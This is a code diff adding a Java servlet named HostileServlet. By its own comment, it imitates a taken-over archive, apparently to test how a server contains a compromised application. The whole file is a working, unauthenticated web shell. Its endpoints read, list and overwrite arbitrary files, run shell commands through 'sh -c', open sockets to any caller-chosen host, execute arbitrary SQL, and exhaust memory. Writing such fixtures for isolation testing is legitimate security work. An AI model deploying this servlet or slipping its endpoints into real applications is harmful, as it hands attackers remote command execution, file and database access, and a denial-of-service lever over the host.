@@ -1,0 +1,106 @@
+package dev.slipway.line.service.app;
+
+import jakarta.servlet.annotation.WebServlet;
+import jakarta.servlet.http.HttpServlet;
+import jakarta.servlet.http.HttpServletRequest;
+import jakarta.servlet.http.HttpServletResponse;
+import java.io.IOException;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.StandardOpenOption;
+import java.sql.Connection;
+import java.sql.DriverManager;
+import java.sql.SQLException;
+import java.sql.Statement;
+import java.util.Objects;
+import java.util.stream.Collectors;
+import java.util.stream.Stream;
+
+/** Does on its machine whatever it is asked to, as an archive that somebody else has taken over would. */
+@WebServlet(urlPatterns = {"/read", "/list", "/write", "/run", "/talk", "/query", "/fill"})
+public class HostileServlet extends HttpServlet {
+    private static final long serialVersionUID = 1L;
+    private static final int TIMEOUT_MILLIS = 5000;
+
+    /** Made by the container. */
+    public HostileServlet() {}
+
+    @Override
+    protected void doPost(HttpServletRequest request, HttpServletResponse response) throws IOException {
+        response.setContentType("text/plain");
+        response.setCharacterEncoding("UTF-8");
+        String said;
+        try {
+            said = "did: " + attempt(request);
+        } catch (IOException | SQLException | InterruptedException | RuntimeException e) {
+            said = "failed: " + e;
+        }
+        response.getWriter().print(said);
+    }
+
+    private static String attempt(HttpServletRequest request) throws IOException, SQLException, InterruptedException {
+        return switch (request.getServletPath()) {
+            case "/read" -> Files.readString(path(request), StandardCharsets.ISO_8859_1);
+            case "/list" -> list(path(request));
+            case "/write" -> write(path(request), word(request, "text"));
+            case "/run" -> run(word(request, "command"));
+            case "/talk" -> talk(word(request, "host"), Integer.parseInt(word(request, "port")), word(request, "text"));
+            case "/query" ->
+                query(word(request, "url"), word(request, "user"), word(request, "password"), word(request, "sql"));
+            default -> String.valueOf(fill(Integer.parseInt(word(request, "megabytes"))));
+        };
+    }
+
+    private static String list(Path folder) throws IOException {
+        try (Stream<Path> files = Files.list(folder)) {
+            return files.map(Path::toString).sorted().collect(Collectors.joining("\n"));
+        }
+    }
+
+    private static String write(Path file, String text) throws IOException {
+        Files.writeString(file, text, StandardOpenOption.CREATE, StandardOpenOption.TRUNCATE_EXISTING);
+        return "written";
+    }
+
+    private static String run(String command) throws IOException, InterruptedException {
+        Process process = new ProcessBuilder("sh", "-c", command)
+                .redirectErrorStream(true)
+                .start();
+        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
+        return process.waitFor() + " " + output;
+    }
+
+    private static String talk(String host, int port, String text) throws IOException {
+        try (Socket socket = new Socket(host, port)) {
+            socket.setSoTimeout(TIMEOUT_MILLIS);
+            socket.getOutputStream().write(text.getBytes(StandardCharsets.ISO_8859_1));
+            socket.getOutputStream().flush();
+            return new String(socket.getInputStream().readNBytes(2000), StandardCharsets.ISO_8859_1);
+        }
+    }
+
+    private static String query(String url, String user, String password, String sql) throws SQLException {
+        try (Connection connection = DriverManager.getConnection(url, user, password);
+                Statement statement = connection.createStatement()) {
+            return String.valueOf(statement.execute(sql));
+        }
+    }
+
+    private static int fill(int megabytes) {
+        byte[][] kept = new byte[megabytes][];
+        for (int i = 0; i < megabytes; i++) {
+            kept[i] = new byte[1 << 20];
+        }
+        return kept.length;
+    }
+
+    private static Path path(HttpServletRequest request) {
+        return Path.of(word(request, "path"));
+    }
+
+    private static String word(HttpServletRequest request, String name) {
+        return Objects.requireNonNull(request.getParameter(name), name);
+    }
+}
